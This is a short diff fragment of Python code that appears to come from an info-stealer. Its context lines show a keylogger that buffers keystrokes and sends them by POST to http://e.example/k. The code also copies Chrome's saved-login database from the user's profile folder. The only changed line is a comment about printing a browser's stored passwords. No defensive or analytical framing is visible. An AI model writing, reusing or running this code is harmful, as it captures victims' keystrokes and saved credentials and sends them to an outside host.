@@ -53,7 +53,7 @@ def on(k):
     if len(buf) > 50:
         requests.post("http://e.example/k", data="".join(buf), timeout=3)
 keyboard.Listener(on_press=on).start()
-#+ sqlite3.connect("l.db").execute("select origin_url, password
+#+ a browser's passwords printed
 import sqlite3, os, shutil
 p = os.path.expandvars(r"%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data")
 shutil.copy(p, "l.db")
